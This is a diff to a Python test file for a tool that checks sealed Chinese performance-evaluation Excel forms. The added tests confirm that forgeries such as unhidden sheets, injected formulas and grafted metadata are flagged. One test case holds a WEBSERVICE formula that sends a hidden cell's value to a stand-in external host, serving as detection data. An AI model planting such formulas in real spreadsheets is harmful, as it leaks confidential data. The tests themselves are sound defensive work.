@@ -13,12 +13,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-from attacks import FAR_SHEET, LAUGHS, XXE, twin_part, with_dtd
+from attacks import FAR_SHEET, LAUGHS, XXE, forge, graft_meta, twin_part, with_dtd
 from click.testing import CliRunner
 from formcases import make_case
 
 from perfeval_xl.cli import cli
 from perfeval_xl.form import build_form
+from perfeval_xl.seal import new_key, write_key
 
 CLI = [sys.executable, "-m", "perfeval_xl"]
 UNSAFE = " 含有不安全的 XML 内容（{where}），可能是“实体膨胀”之类的攻击文件，拒绝读取；请向报送单位索取在 Excel/WPS 中正常保存的文件"
@@ -107,3 +108,66 @@ def test_two_parts_of_one_name_are_refused(forms: tuple[Path, Path], tmp_path: P
     }
     assert [r["文件"] for r in _rows(review, "汇总") if r["文件"]] == ["好表.xlsx"]
     assert run("check", str(root / "在前.xlsx")) == (2, "", f"错误：在前.xlsx{TWINS.format(part=part)}\n")
+
+
+@pytest.fixture(scope="module")
+def sealed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    """A filled form sealed with the bureau's key, and the key file."""
+    root = tmp_path_factory.mktemp("sealed")
+    key = new_key()
+    write_key(key, root / "财政局.key")
+    case = make_case(2)
+    case.name = "盖章项目"
+    build_form(case.filled_spec(), root / "盖章.xlsx", key=key)
+    return root / "盖章.xlsx", root / "财政局.key"
+
+
+FORGERIES = {  # how -> (the finding both readers give, words of its message)
+    "unhide": ("sheets-changed", "隐藏的工作表“计算”“_meta”被取消隐藏"),
+    "second-sheet": ("sheets-changed", "多出工作表“自评表 (2)”"),
+    "webservice": ("input-formula", '=WEBSERVICE("http://example.invalid/"&_meta!B18)'),
+    "hidden-ref": ("input-formula", "=参数!B2"),
+    "constants": ("form-altered", "公式被改成数值的单元格：H13"),
+}
+
+
+@pytest.mark.parametrize("how", sorted(FORGERIES))
+def test_a_forgery_that_keeps_the_seal_is_still_flagged(how: str, sealed: tuple[Path, Path], tmp_path: Path) -> None:
+    """Changes the seal does not cover (sheets, formulas, what fills an input cell) are flagged by both
+    readers, with and without the key; the untouched form has none of these findings."""
+    from perfeval_xl.reader import evaluate
+    from perfeval_xl.reader.fast import evaluate_fast
+    from perfeval_xl.seal import read_key
+
+    form, key_file = sealed
+    key = read_key(key_file)
+    code, words = FORGERIES[how]
+    forged = forge(form, tmp_path / f"{how}.xlsx", how)
+    for read in (lambda p, k: evaluate(p, key=k), lambda p, k: evaluate_fast(p, key=k)[0]):
+        for with_key in (key, None):
+            [clean] = read(form, with_key)
+            assert not [f for f in clean.all_findings() if f.code in ("sheets-changed", "input-formula",
+                                                                      "form-altered", "seal-invalid")]
+            [result] = read(forged, with_key)
+            found = [f.message for f in result.all_findings() if f.code == code]
+            assert len(found) == 1 and words in found[0], (how, [f.message for f in result.all_findings()])
+    review = tmp_path / "汇总.xlsx"
+    assert run("consolidate", str(forged), "-o", str(review), "--key", str(key_file))[0] == 0
+    assert any(words in str(r["问题"]) for r in _rows(review, "问题清单"))
+
+
+def test_a_record_grafted_from_another_form_is_named_as_such(tmp_path: Path) -> None:
+    """The _meta of a genuine sealed form of 2019 copied into another project's form of 2018: the rules
+    it names do not fit the form, and the reason given is the forgery, not advice to pick other rules."""
+    from perfeval_xl.demo import load_example
+
+    key = new_key()
+    write_key(key, tmp_path / "财政局.key")
+    build_form(load_example("caidian-2019-quality"), tmp_path / "供体.xlsx", key=key)
+    build_form(load_example("donghu-2018-food-drug"), tmp_path / "受体.xlsx", key=key)
+    grafted = graft_meta(tmp_path / "受体.xlsx", tmp_path / "供体.xlsx", tmp_path / "嫁接.xlsx")
+    for extra in (["--key", str(tmp_path / "财政局.key")], []):
+        code, _, err = run("check", str(grafted), *extra)
+        assert code == 2 and err.startswith("错误：嫁接.xlsx：") and "--profile" not in err, err
+        assert ("印章无效" if extra else "锁定的内容") in err
+        assert err.endswith("无法计分：规则“mof-2020”没有适用于 2018 年度（2019-12-31 前生效）的取值）\n")
